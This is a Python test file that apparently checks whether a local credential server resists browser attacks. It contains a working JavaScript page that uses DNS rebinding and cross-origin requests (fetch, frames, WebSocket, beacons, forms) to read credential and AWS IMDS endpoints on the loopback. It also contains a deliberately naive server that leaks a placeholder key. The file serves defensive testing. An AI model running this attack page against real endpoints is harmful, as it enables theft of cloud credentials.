"""A browser on the endpoints: a page whose name was rebound to the loopback, and one that reaches across origins.

The page knows more than a real one could: the port, the path and the right token. Rebinding is played by a relay on
127.0.0.2, which serves the page and then passes each connection on to the same port of 127.0.0.1: for the browser one
origin, for the endpoint a Host that is not its own.
"""

import http.server
import json
import queue
import shutil
import socket
import subprocess
import tempfile
import threading
import unittest
import urllib.error
import urllib.parse
import urllib.request

import rig

NAME = "attacker.example"
ROLE = "/latest/meta-data/iam/security-credentials/prod"
PAGE = """<!doctype html><iframe name=sink></iframe><script>
const told = {};
const text = async (url, how) => {
  try { const r = await fetch(url, how); return r.type + " " + r.status + " " + await r.text() } catch (e) { return "no: " + e.name }
};
const by = (make) => new Promise((tell) => {
  try { make((what) => tell(String(what))) } catch (e) { tell("no: " + e.name) }
});
const element = (name, url) => by((tell) => {
  const made = document.createElement(name);
  made.onload = () => tell("loaded"); made.onerror = () => tell("no: error"); made.src = url; document.body.append(made);
});
const framed = (url) => by((tell) => {
  const frame = document.createElement("iframe");
  frame.onload = () => { try { tell("read " + frame.contentDocument.body.innerText) } catch (e) { tell("no: " + e.name) } };
  frame.src = url; document.body.append(frame);
});
(async () => {
  const {path, token, across, report} = JSON.parse(decodeURIComponent(location.hash.slice(1)));
  const proof = {Authorization: token, "X-aws-ec2-metadata-token": token};
  const put = {method: "PUT", headers: {"X-aws-ec2-metadata-token-ttl-seconds": "60"}};
  told["rebound, bare"] = await text(path);
  told["rebound, with the token"] = await text(path, {headers: proof});
  told["rebound, a token of IMDS"] = await text("/latest/api/token", put);
  told["rebound, framed"] = await framed(path);
  told["rebound, posted"] = await text(path, {method: "POST", headers: proof, body: "x=1"});
  told["rebound, events"] = await by((tell) => {
    const events = new EventSource(path); events.onmessage = (e) => tell(e.data); events.onerror = () => { events.close(); tell("no: error") };
  });
  for (const base of across) {
    told[base + " opaque"] = await text(base + path, {mode: "no-cors"});
    told[base + " with the token"] = await text(base + path, {headers: proof});
    told[base + " with cookies"] = await text(base + path, {credentials: "include"});
    told[base + " a token of IMDS"] = await text(base + "/latest/api/token", put);
    told[base + " private network"] = await text(base + path, {targetAddressSpace: "loopback", headers: proof});
    told[base + " image"] = await element("img", base + path);
    told[base + " script"] = await element("script", base + path);
    told[base + " frame"] = await framed(base + path);
    told[base + " websocket"] = await by((tell) => {
      const web = new WebSocket(base.replace("http", "ws") + path);
      web.onopen = () => tell("open"); web.onerror = () => tell("no: error");
    });
    told[base + " beacon"] = navigator.sendBeacon(base + path, "x=1") + " sent";
    const form = document.createElement("form");
    form.method = "POST"; form.action = base + path; form.target = "sink"; document.body.append(form); form.submit();
  }
  await fetch(report, {method: "POST", mode: "no-cors", body: JSON.stringify(told)});
})();
</script>"""
# What runs as a program of the person's own: no network of its own, no questions, nothing kept.
CHROMIUM = [
    "chromium",
    "--headless=new",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    f"--host-resolver-rules=MAP {NAME} 127.0.0.2, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost",
]


class Rebinding:
    """What the name leads to: the page for whoever asks for it, the endpoint's port for everything else."""

    def __init__(self, port):
        self.port, self.reports, self.relayed = port, queue.Queue(), 0
        self.listener = socket.create_server(("127.0.0.2", port))
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            try:
                browser, _ = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self.serve, args=(browser,), daemon=True).start()

    def serve(self, browser):
        with browser:
            head = b""
            while b"\r\n\r\n" not in head:
                if not (more := browser.recv(4096)):
                    return
                head += more
            line = head.split(b"\r\n", 1)[0]
            if line.startswith(b"GET /page "):
                browser.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n" + PAGE.encode())
            elif line.startswith(b"POST /report "):
                start, body = head.split(b"\r\n\r\n", 1)
                length = next(int(row.split(b":")[1]) for row in start.split(b"\r\n") if row.lower().startswith(b"content-length"))
                while len(body) < length:
                    body += browser.recv(65536)
                browser.sendall(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
                self.reports.put(json.loads(body))
            else:
                self.relay(browser, head)

    def relay(self, browser, head):
        self.relayed += 1
        with socket.create_connection(("127.0.0.1", self.port)) as endpoint:
            endpoint.sendall(head)
            back = threading.Thread(target=pass_on, args=(browser, endpoint), daemon=True)
            back.start()
            pass_on(endpoint, browser)
            back.join()

    def attack(self, path, token):
        """What the page tells after it has tried everything."""
        across = [f"http://{host}:{self.port}" for host in ("127.0.0.1", "localhost", f"other.{NAME}", "0.0.0.0", "[::1]")]
        orders = {"path": path, "token": token, "across": across, "report": "/report"}
        url = f"http://{NAME}:{self.port}/page#{urllib.parse.quote(json.dumps(orders))}"
        folder = tempfile.mkdtemp(prefix="claviger-rig-")
        argv = [*CHROMIUM, f"--user-data-dir={folder}", url]
        environment = {"HOME": folder, "PATH": "/usr/bin:/bin"}
        quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL, "stdin": subprocess.DEVNULL}
        browser = subprocess.Popen(argv, env=environment, **quiet)
        try:
            return self.reports.get(timeout=180)
        finally:
            browser.terminate()
            browser.wait()
            shutil.rmtree(folder, ignore_errors=True)
            self.listener.close()


def pass_on(source, sink):
    try:
        while data := source.recv(65536):
            sink.sendall(data)
        sink.shutdown(socket.SHUT_WR)
    except OSError:
        pass


class Naive(http.server.BaseHTTPRequestHandler):
    """A local credential server as some were shipped: whoever finds the port, and asks under any name, is answered."""

    SECRET = "ASIANAIVECONTROLXXXX"

    def do_GET(self):
        self.answer()

    do_PUT = do_POST = do_GET

    def answer(self):
        body = json.dumps({"AccessKeyId": self.SECRET}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


class Browser(unittest.TestCase):
    def attack(self, url, token):
        where = urllib.parse.urlsplit(url)
        rebinding = Rebinding(where.port)
        told = rebinding.attack(where.path, token)
        self.assertGreater(rebinding.relayed, 3, "the endpoint was asked under the attacker's name")
        self.assertGreater(len(told), 40, told)
        return told

    def test_the_page_reads_a_server_that_answers_any_name(self):
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Naive)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        self.addCleanup(server.server_close)
        self.addCleanup(server.shutdown)
        told = self.attack(f"http://127.0.0.1:{server.server_port}/credentials", "a guess")
        for way in ("rebound, bare", "rebound, with the token", "rebound, framed", "rebound, a token of IMDS"):
            self.assertIn(Naive.SECRET, told[way], way)

    def test_a_page_gets_nothing_from_an_endpoint_and_takes_nothing_away(self):
        cast = self.enterContext(rig.sandbox())
        claviger = self.enterContext(rig.Claviger(cast)).ready()
        for kind in ("container", "imds"):
            endpoint = self.enterContext(rig.endpoint(claviger, kind))
            url, token = endpoint["url"], endpoint.get("token")
            if kind == "imds":
                url, token = f"{url.rstrip('/')}{ROLE}", imds_token(url)
            self.assertEqual(status(url, token), 200, "the token is right")
            told = self.attack(url, token)
            for way, said in told.items():
                self.assertNotIn("AccessKeyId", said, way)
                self.assertNotIn("ASIA", said, way)
                self.assertNotRegex(said, r"^(basic|cors) 2|^open|^loaded", way)
                self.assertNotIn(token, said, way)
            self.assertTrue(told["rebound, with the token"].startswith("basic 403"), told["rebound, with the token"])
            self.assertEqual(status(url, token), 200, "the process it belongs to is served on")


def imds_token(url):
    headers = {"X-aws-ec2-metadata-token-ttl-seconds": "600"}
    asked = urllib.request.Request(f"{url.rstrip('/')}/latest/api/token", method="PUT", headers=headers)
    return urllib.request.urlopen(asked, timeout=60).read().decode()


def status(url, token):
    headers = {"Authorization": token, "X-aws-ec2-metadata-token": token}
    try:
        return urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=60).status
    except urllib.error.HTTPError as error:
        return error.code


if __name__ == "__main__":
    unittest.main(verbosity=2)
